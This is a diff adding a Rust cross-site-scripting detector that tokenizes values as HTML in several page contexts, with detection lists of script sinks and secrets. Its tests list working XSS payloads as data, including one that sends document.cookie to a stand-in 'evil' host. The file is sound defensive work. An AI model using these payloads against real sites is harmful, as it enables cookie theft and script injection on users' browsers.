@@ -1,0 +1,374 @@
+//! Cross-site scripting: would the value, written into a page, run script?
+//!
+//! The value is read by an HTML5 tokenizer (html5gum, which follows the
+//! WHATWG tokenizer state by state, entities in attributes included) in each
+//! place a page may put it: as text, inside a double- or single-quoted
+//! attribute, unquoted, as a URL, and inside a string in a script. What
+//! counts is what a browser would do with the tokens: a `<script>` or a
+//! plugin element, an event-handler attribute, a `javascript:` URL, an
+//! attribute or string the value breaks out of. Editor markup (`<p>`,
+//! `<strong>`, `<a href="https://...">`, `<img src="/x.png">`) does none of it.
+
+use html5gum::{DefaultEmitter, Token, Tokenizer};
+
+use super::Hit;
+
+pub fn inspect(value: &str) -> Option<Hit> {
+    let bytes = value.as_bytes();
+    let mut best: Option<Hit> = None;
+    let mut consider = |hit: Option<Hit>| {
+        if let Some(hit) = hit {
+            if best.as_ref().is_none_or(|b| hit.score > b.score) {
+                best = Some(hit);
+            }
+        }
+    };
+    if bytes.contains(&b'<') {
+        // The page goes on after the value: a tag it leaves open is closed
+        // by what follows, so it is read as if closed.
+        consider(markup(&format!("{value}>"), "HTML text", 0));
+    }
+    for quote in ['"', '\''] {
+        if let Some(at) = value.find(quote) {
+            consider(attribute(value, Some(quote), at));
+            consider(script_string(value, quote, at));
+        }
+    }
+    if value.contains('`') {
+        consider(script_string(value, '`', value.find('`').unwrap_or(0)));
+    }
+    if bytes.contains(&b'=') && bytes.iter().any(u8::is_ascii_whitespace) {
+        consider(attribute(value, None, 0));
+    }
+    consider(url(value));
+    consider(script_code(value));
+    best
+}
+
+/// The value as page text: the tags it opens.
+fn markup(value: &str, context: &'static str, offset: usize) -> Option<Hit> {
+    let mut emitter = DefaultEmitter::default();
+    // Switch to script, style and RCDATA states after those tags, as a
+    // browser does: `<textarea><b onclick=x></textarea>` is text. Not in
+    // SVG and MathML, where `<style>` holds markup.
+    emitter.naively_switch_states(!foreign_content(value));
+    let mut best: Option<u8> = None;
+    let mut in_style = false;
+    for token in Tokenizer::new_with_emitter(value, emitter).flatten() {
+        let score = match token {
+            Token::StartTag(tag) => {
+                in_style = tag.name.eq_ignore_ascii_case(b"style");
+                tag_score(&tag.name, tag.attributes.iter().map(|(k, v)| (&k[..], &v.value[..])), true)
+            }
+            Token::EndTag(tag) if tag.name.eq_ignore_ascii_case(b"script") => Some(4),
+            Token::String(text) if in_style && dangerous_css(&text.value) => Some(5),
+            // Old IE ran `<!--[if IE]><script>` and friends.
+            Token::Comment(text) if memchr::memmem::find(&lowercase(&text.value), b"<script").is_some() => Some(4),
+            _ => None,
+        };
+        best = best.max(score);
+        if best == Some(5) {
+            break;
+        }
+    }
+    best.map(|score| Hit {
+        score,
+        context,
+        at: offset,
+    })
+}
+
+/// The value as an attribute's value: quoted by `quote`, or unquoted. It
+/// must leave the attribute to do anything; what it adds after is judged
+/// like markup.
+fn attribute(value: &str, quote: Option<char>, at: usize) -> Option<Hit> {
+    let (open, close, context) = match quote {
+        Some('"') => ("<x a=\"", "\">", "double-quoted HTML attribute"),
+        Some(_) => ("<x a='", "'>", "single-quoted HTML attribute"),
+        None => ("<x a=", ">", "unquoted HTML attribute"),
+    };
+    let document = format!("{open}{value}{close}");
+    let mut emitter = DefaultEmitter::default();
+    emitter.naively_switch_states(!foreign_content(value));
+    let mut best = None;
+    let tokens = Tokenizer::new_with_emitter(document.as_str(), emitter)
+        .flatten()
+        .filter(|token| !matches!(token, Token::Error(_)));
+    for (index, token) in tokens.enumerate() {
+        let score = match token {
+            // The element the value was written into: only what it added counts.
+            Token::StartTag(tag) if index == 0 => tag_score(
+                b"x",
+                tag.attributes
+                    .iter()
+                    .filter(|(name, _)| &name[..] != b"a")
+                    .map(|(k, v)| (&k[..], &v.value[..])),
+                false,
+            ),
+            Token::StartTag(tag) => tag_score(
+                &tag.name,
+                tag.attributes.iter().map(|(k, v)| (&k[..], &v.value[..])),
+                true,
+            ),
+            Token::EndTag(tag) if tag.name.eq_ignore_ascii_case(b"script") => Some(4),
+            _ => None,
+        };
+        best = best.max(score);
+    }
+    best.map(|score| Hit { score, context, at })
+}
+
+fn foreign_content(value: &str) -> bool {
+    let lower = value.to_ascii_lowercase();
+    lower.contains("<svg") || lower.contains("<math")
+}
+
+/// How dangerous a start tag is: 5 if it runs script or loads active content.
+/// `in_tag`: the tag is the value's own, not the one it was written into, so
+/// even an empty handler (`<svg onload svg onload=...>`) is an attempt.
+fn tag_score<'a>(
+    name: &[u8],
+    attributes: impl Iterator<Item = (&'a [u8], &'a [u8])>,
+    in_tag: bool,
+) -> Option<u8> {
+    let mut score = match lowercase(name).as_slice() {
+        b"script" | b"iframe" | b"frame" | b"frameset" | b"object" | b"embed" | b"applet" | b"base" | b"portal" => {
+            Some(5)
+        }
+        b"meta" | b"link" | b"style" | b"form" | b"isindex" => Some(3),
+        _ => None,
+    };
+    let meta = name.eq_ignore_ascii_case(b"meta");
+    let styled = name.eq_ignore_ascii_case(b"link") || name.eq_ignore_ascii_case(b"style");
+    // SVG's `<animate attributeName=onload to=...>` sets a handler or a link.
+    let animates = name.eq_ignore_ascii_case(b"animate") || name.eq_ignore_ascii_case(b"set");
+    for (attribute, value) in attributes {
+        let attribute = lowercase(attribute);
+        let found = if is_event_handler(&attribute) && (in_tag || !value.is_empty()) {
+            Some(5)
+        } else if animates
+            && attribute == b"attributename"
+            && (is_event_handler(&lowercase(value)) || value.eq_ignore_ascii_case(b"href"))
+        {
+            Some(5)
+        } else if styled && dangerous_css(value) {
+            Some(5)
+        } else if dangerous_url(value) || (meta && refresh_to_script(value)) {
+            Some(5)
+        } else if attribute == b"srcdoc" {
+            std::str::from_utf8(value)
+                .ok()
+                .and_then(|html| markup(html, "HTML text", 0))
+                .map(|hit| hit.score)
+        } else if attribute == b"style" && dangerous_css(value) {
+            Some(5)
+        } else if meta && attribute == b"http-equiv" {
+            Some(4)
+        } else {
+            None
+        };
+        score = score.max(found);
+    }
+    score
+}
+
+/// `onerror`, `onload`, `onpointerenter`...: every event handler attribute
+/// is `on` and the event's name.
+fn is_event_handler(attribute: &[u8]) -> bool {
+    attribute.len() > 4 && attribute.starts_with(b"on") && attribute[2..].iter().all(u8::is_ascii_alphabetic)
+}
+
+/// A URL a browser would run as script, read as its URL parser would:
+/// leading spaces and controls stripped, tabs and newlines removed anywhere.
+fn dangerous_url(value: &[u8]) -> bool {
+    let mut scheme = [0u8; 16];
+    let mut len = 0;
+    let mut rest = value.iter().skip_while(|b| **b <= b' ');
+    for &byte in rest.by_ref() {
+        match byte {
+            // Browsers drop tabs and newlines; older ones dropped every control.
+            0..=0x1F => continue,
+            b':' => break,
+            _ if len == scheme.len() => return false,
+            _ => {
+                scheme[len] = byte.to_ascii_lowercase();
+                len += 1;
+            }
+        }
+    }
+    match &scheme[..len] {
+        b"javascript" | b"vbscript" | b"livescript" => true,
+        b"data" => {
+            let media: Vec<u8> = rest.take(24).map(u8::to_ascii_lowercase).collect();
+            ["text/html", "image/svg+xml", "application/xhtml", "text/xml", "application/xml"]
+                .iter()
+                .any(|m| media.starts_with(m.as_bytes()))
+        }
+        _ => false,
+    }
+}
+
+/// `<meta http-equiv=refresh content="0;url=javascript:...">`.
+fn refresh_to_script(content: &[u8]) -> bool {
+    let lower = lowercase(content);
+    memchr::memmem::find_iter(&lower, b"url=").any(|at| dangerous_url(&lower[at + 4..]))
+}
+
+/// Style that runs script in old browsers or binds behaviour.
+fn dangerous_css(style: &[u8]) -> bool {
+    let mut lower: Vec<u8> = lowercase(style).into_iter().filter(|b| !b.is_ascii_whitespace()).collect();
+    // `expr/**/ession(`: comments split words in old IE.
+    while let Some(start) = memchr::memmem::find(&lower, b"/*") {
+        let end = memchr::memmem::find(&lower[start + 2..], b"*/").map_or(lower.len(), |e| start + 2 + e + 2);
+        lower.drain(start..end);
+    }
+    ["expression(", "javascript:", "vbscript:", "-moz-binding", "behavior:", "behaviour:"]
+        .iter()
+        .any(|needle| memchr::memmem::find(&lower, needle.as_bytes()).is_some())
+}
+
+/// The value used as a link or a redirect target.
+fn url(value: &str) -> Option<Hit> {
+    let trimmed = value.trim_start_matches(|c: char| c <= ' ');
+    if !dangerous_url(trimmed.as_bytes()) {
+        return None;
+    }
+    let data = trimmed.get(..5).is_some_and(|s| s.eq_ignore_ascii_case("data:"));
+    // `javascript: the good parts` is a book title; code calls something.
+    let code = trimmed.contains(['(', '`', '=', '\\', '[']);
+    (data || code).then_some(Hit {
+        score: 5,
+        context: "URL",
+        at: 0,
+    })
+}
+
+/// The value inside a string in a script (`var q = 'VALUE';`): a quote,
+/// then an operator, then a call or a reach for the page's secrets.
+fn script_string(value: &str, quote: char, at: usize) -> Option<Hit> {
+    let rest = value[at + quote.len_utf8()..].trim_start();
+    let operator = rest.chars().next()?;
+    if !";+-*/%&|^,)}]?:<>=!".contains(operator) {
+        return None;
+    }
+    let lower = rest.to_ascii_lowercase();
+    let sink = [
+        "alert", "prompt", "confirm", "eval", "function", "settimeout", "setinterval", "fetch", "import", "atob",
+        "fromcharcode", "write", "open", "print", "constructor",
+    ]
+    .iter()
+    .any(|name| {
+        lower.match_indices(name).any(|(i, _)| {
+            let before = lower[..i].chars().next_back();
+            let after = lower[i + name.len()..].trim_start().chars().next();
+            !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') && matches!(after, Some('(' | '`'))
+        })
+    });
+    let secrets = ["document.cookie", "document.domain", "window.location", "localstorage"]
+        .iter()
+        .any(|name| lower.contains(name));
+    let call = rest.contains('(') || rest.contains('`');
+    let score = if sink || secrets {
+        5
+    } else if call {
+        3
+    } else {
+        return None;
+    };
+    Some(Hit {
+        score,
+        context: "string in a script",
+        at,
+    })
+}
+
+/// Script code on its own (a JSONP callback, an `eval`ed parameter): a call
+/// to the functions payloads use to prove they ran, or to `eval`.
+fn script_code(value: &str) -> Option<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let at = ["alert", "prompt", "confirm", "eval"].iter().find_map(|name| {
+        lower.match_indices(name).find_map(|(i, _)| {
+            let before = lower[..i].chars().next_back();
+            let after = lower[i + name.len()..].trim_start().chars().next();
+            (!before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') && matches!(after, Some('(' | '`')))
+                .then_some(i)
+        })
+    })?;
+    Some(Hit {
+        score: 3,
+        context: "script",
+        at,
+    })
+}
+
+fn lowercase(bytes: &[u8]) -> Vec<u8> {
+    bytes.to_ascii_lowercase()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn score(value: &str) -> u8 {
+        inspect(value).map_or(0, |hit| hit.score)
+    }
+
+    #[test]
+    fn script_in_every_context_is_found() {
+        let missed: Vec<_> = [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=\"&#106;avascript:alert(1)\">x</a>",
+            "<a href=\"java\tscript:alert(1)\">x</a>",
+            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
+            "\"><script>alert(1)</script>",
+            "\" onmouseover=\"alert(1)",
+            "' onfocus='alert(1)' autofocus='",
+            "x onmouseover=alert(1)",
+            "javascript:alert(document.cookie)",
+            "  JaVaScRiPt:alert(1)",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "';alert(1);//",
+            "'-alert(1)-'",
+            "\";document.location='http://evil/?c='+document.cookie;//",
+            "<body onload=alert(1)>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+            "<object data=\"javascript:alert(1)\">",
+            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+            "<div style=\"width: expression(alert(1))\">",
+            "<svg><animate attributeName=href values=javascript:alert(1) />",
+            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        ]
+        .into_iter()
+        .filter(|attack| score(attack) < 5)
+        .map(|attack| format!("{attack}: {:?}", inspect(attack)))
+        .collect();
+        assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+    }
+
+    #[test]
+    fn editor_markup_and_prose_pass() {
+        let blocked: Vec<_> = [
+            "<p>Hello <strong>world</strong></p>",
+            "<a href=\"https://example.com/page?a=1&b=2\">a link</a>",
+            "<img src=\"/images/cat.png\" alt=\"A cat\">",
+            "<ul><li>one</li><li>two</li></ul><blockquote>quote</blockquote>",
+            "<p>How to use the &lt;script&gt; tag</p>",
+            "I <3 cats & dogs > birds",
+            "javascript: the good parts",
+            "He said \"onward and upward\"",
+            "It's 5 o'clock; time (for tea)",
+            "x = \"a\" + b",
+            "<p><textarea><b onclick=x></textarea></p>",
+            "<h2 class=\"title\" id=\"intro\">Intro</h2>",
+            "5 > 3 and 2 < 4",
+        ]
+        .into_iter()
+        .filter(|benign| score(benign) >= 5)
+        .map(|benign| format!("{benign}: {:?}", inspect(benign)))
+        .collect();
+        assert!(blocked.is_empty(), "blocked:\n{}", blocked.join("\n"));
+    }
+}
